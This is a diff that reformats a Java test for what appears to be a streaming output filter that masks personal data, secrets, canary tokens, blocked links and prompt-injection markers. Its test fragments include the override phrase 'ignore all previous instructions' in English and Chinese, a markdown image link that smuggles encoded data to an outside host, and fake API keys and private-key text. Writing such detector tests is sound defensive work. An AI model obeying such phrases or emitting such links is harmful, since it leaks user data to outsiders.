@@ -20,8 +20,18 @@ class StreamingTest {
                     new LinkRules(Set.of(), Set.of("evil.example")),
                     Map.of()),
             Map.of(
-                    "pii", Action.MASK, "secret", Action.MASK, "term", Action.MASK, "link", Action.MASK, "canary",
-                    Action.REFUSE, "injection.mark", Action.MASK),
+                    "pii",
+                    Action.MASK,
+                    "secret",
+                    Action.MASK,
+                    "term",
+                    Action.MASK,
+                    "link",
+                    Action.MASK,
+                    "canary",
+                    Action.REFUSE,
+                    "injection.mark",
+                    Action.MASK),
             "pii",
             "secrets",
             "terms:words",
@@ -30,12 +40,58 @@ class StreamingTest {
             "injection");
 
     private static final String[] PIECES = {
-        "，", " ", "。", "-", "的", "a", "ab", "一", "1", "13", "\u200B", "\uD83D\uDE00", "\uD83D", "\n", "电话", "卡号", "é", "⑫", "x",
-        "13800138000", "4111 1111 1111 1111", "11010519491231002X", "１３８００１３８０００", "一三八零零一三八零零零", "a@b.com", "秘 密-计划",
-        "秘密计划书", "哈嘿", "哈", "嘿哈", "project falcon", "ƒalcon", "f.a.l.c.o.n", "cnry-7f3a91", "忽略以上", "所有指令", "ignore all previous", " instructions",
-        "![x](https://e.example/a?d=aGVsbG8gd29ybGQ)", "http://evil.example/", "sk-abcdefghijklmnopqrstuvwx", "AKIAABCDEFGHIJKLMNOP",
-        "-----BEGIN PRIVATE KEY-----\nMIIB\n-----END PRIVATE KEY-----", "eyJhbGciOiJIUzI1.eyJzdWIiOiIx.abc", "2001:db8::1", "1.2.3.4",
-        "京A12345", "DE89 3704 0044 0532 0130 00", "P<UTO", "<<<<", "token: ", "A123456(3)"
+        "，",
+        " ",
+        "。",
+        "-",
+        "的",
+        "a",
+        "ab",
+        "一",
+        "1",
+        "13",
+        "\u200B",
+        "\uD83D\uDE00",
+        "\uD83D",
+        "\n",
+        "电话",
+        "卡号",
+        "é",
+        "⑫",
+        "x",
+        "13800138000",
+        "4111 1111 1111 1111",
+        "11010519491231002X",
+        "１３８００１３８０００",
+        "一三八零零一三八零零零",
+        "a@b.com",
+        "秘 密-计划",
+        "秘密计划书",
+        "哈嘿",
+        "哈",
+        "嘿哈",
+        "project falcon",
+        "ƒalcon",
+        "f.a.l.c.o.n",
+        "cnry-7f3a91",
+        "忽略以上",
+        "所有指令",
+        "ignore all previous",
+        " instructions",
+        "![x](https://e.example/a?d=aGVsbG8gd29ybGQ)",
+        "http://evil.example/",
+        "sk-abcdefghijklmnopqrstuvwx",
+        "AKIAABCDEFGHIJKLMNOP",
+        "-----BEGIN PRIVATE KEY-----\nMIIB\n-----END PRIVATE KEY-----",
+        "eyJhbGciOiJIUzI1.eyJzdWIiOiIx.abc",
+        "2001:db8::1",
+        "1.2.3.4",
+        "京A12345",
+        "DE89 3704 0044 0532 0130 00",
+        "P<UTO",
+        "<<<<",
+        "token: ",
+        "A123456(3)"
     };
 
     /** Guards against every decision that depends on where a piece ends. */
@@ -93,7 +149,8 @@ class StreamingTest {
             var text = filler.repeat(200_000 / filler.length());
             int passed = 0;
             for (int at = 0; at < text.length(); at += 1000) {
-                passed += flow.push(text.substring(at, Math.min(text.length(), at + 1000))).length();
+                passed += flow.push(text.substring(at, Math.min(text.length(), at + 1000)))
+                        .length();
             }
             if (!filler.startsWith("哈")) {
                 assertThat(text.length() - passed).as(filler).isLessThan(20_000);
@@ -107,7 +164,8 @@ class StreamingTest {
         var text = "\uD83D\uDE00⑫\u200B电话：１３８\u200B００１３８０００、e\u0301";
         var found = ALL.inspect(text, Direction.OUT).detections();
         assertThat(found).hasSize(1);
-        assertThat(text.substring(found.getFirst().start(), found.getFirst().end())).isEqualTo("１３８\u200B００１３８０００");
+        assertThat(text.substring(found.getFirst().start(), found.getFirst().end()))
+                .isEqualTo("１３８\u200B００１３８０００");
     }
 
     @Test
